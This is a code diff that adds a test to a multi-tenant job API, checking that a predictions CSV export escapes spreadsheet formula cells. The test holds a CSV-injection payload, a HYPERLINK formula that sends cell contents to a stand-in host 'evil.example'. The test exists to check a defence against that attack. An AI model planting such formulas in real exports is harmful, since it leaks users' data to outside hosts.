@@ -326,3 +326,16 @@ def test_other_tenant_cannot_see_cancel_or_retry_a_job(
     replay = submit(globex, labelled_dataset(globex), key="acme-key")
     assert replay.status_code == 201
     assert replay.json()["id"] != job_id
+
+
+def test_predictions_csv_neutralises_formula_cells(acme: TenantSetup, dataset: Dataset) -> None:
+    job_id = submit(acme, dataset, kind="batch_inference", params={}).json()["id"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with tenant_context(acme.tenant.pk):
+        job = Job.objects.get(pk=job_id)
+        Prediction.objects.create(job=job, item=1, label=formula, confidence=0.9,
+                                  probabilities={formula: 0.9})
+    response = acme.api().get(f"{URL}/{job_id}/predictions.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][1] == "'" + formula
+    assert rows[1][2] == "0.900000"
